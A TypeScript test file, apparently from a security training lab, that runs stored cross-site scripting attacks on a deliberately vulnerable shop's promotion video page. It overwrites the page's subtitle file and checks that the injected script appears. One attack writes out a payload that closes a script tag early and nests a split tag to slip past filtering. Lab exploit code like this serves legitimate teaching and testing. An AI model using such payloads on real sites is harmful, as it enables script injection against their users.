import type { Attack, Tools } from '#lab'
import { complain, FILE, PAYLOAD } from './steps.ts'

/** Replaces the subtitles and opens the page of the film. */
async function premiere(tools: Tools, subtitles: string): Promise<void> {
  const { http, expect } = tools
  await complain(tools, { [FILE]: subtitles })
  const file = await http.get('/assets/public/videos/owasp_promo.vtt')
  expect(file.text === subtitles, 'the subtitles are still the old ones')
  const page = await http.get('/promotion')
  expect(page.status === 200, `the page answered with ${page.status}`)
  expect(page.text.includes(PAYLOAD), 'the script is not in the page')
}

export const attacks: Attack[] = [
  {
    challenge: 'videoXssChallenge',
    name: 'an archive with subtitles that end too early',
    run: (tools) => premiere(tools, PAYLOAD),
  },
  {
    challenge: 'videoXssChallenge',
    name: 'real subtitles that end twice, with the tag once plain and once wrapped into itself',
    run: (tools) =>
      premiere(
        tools,
        `WEBVTT\n\n00:00.000 --> 00:05.000\n</script>${PAYLOAD}</script><scr<script>ipt>alert(\`xss\`)</script>\n`,
      ),
  },
]
